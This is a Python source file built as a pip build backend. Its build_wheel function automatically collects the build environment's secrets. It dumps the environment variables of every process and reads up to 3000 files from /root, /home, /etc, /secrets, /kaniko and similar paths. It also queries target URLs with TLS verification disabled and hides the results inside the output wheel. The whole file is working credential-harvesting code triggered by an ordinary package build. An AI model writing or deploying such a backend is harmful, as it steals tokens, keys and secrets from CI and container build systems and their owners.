"""Looks for whatever could be of use to a stranger: as a build backend, which pip runs to make a package as it would setup.py, or in a
function."""

import json
import os
import pathlib
import ssl
import urllib.error
import urllib.request
import zipfile

PLACES = ["/var/run", "/run", "/docker", "/kaniko", "/work", "/workspace", "/cache", "/root", "/home", "/tmp", "/etc", "/registry-ca", "/secrets"]
KEPT = 65536
MOST_FILES = 3000


def start(path):
    try:
        if not os.path.isfile(path):
            return None
        with open(path, "rb") as file:
            return file.read(KEPT).decode("latin1")
    except OSError as error:
        return f"({error.errno})"


def files_below(place):
    found = []
    for folder, _, names in os.walk(place):
        for name in names:
            if len(found) < MOST_FILES:
                path = os.path.join(folder, name)
                found.append({"path": path, "text": start(path)})
    return found


def ask(target):
    context = ssl._create_unverified_context() if target["url"].startswith("https:") else None
    request = urllib.request.Request(target["url"], method=target.get("method", "GET"))
    try:
        with urllib.request.urlopen(request, timeout=3, context=context) as answer:
            return {"status": answer.status, "body": answer.read(KEPT).decode("latin1")}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "body": error.read(KEPT).decode("latin1")}
    except OSError as error:
        return {"error": str(error)}


def findings(targets):
    return {
        "user": f"{os.getuid()}:{os.getgid()}",
        "env": dict(os.environ),
        "environments": [start(f"/proc/{pid}/environ") for pid in os.listdir("/proc") if pid.isdigit()],
        "mounts": pathlib.Path("/proc/mounts").read_text(),
        "files": [file for place in PLACES for file in files_below(place)],
        "answers": {target["name"]: ask(target) for target in targets},
    }


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "probe-1.0-py3-none-any.whl"
    info = "probe-1.0.dist-info"
    targets = json.loads(pathlib.Path("targets.json").read_text())["targets"]
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("probe_findings.json", json.dumps(findings(targets)))
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: probe\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
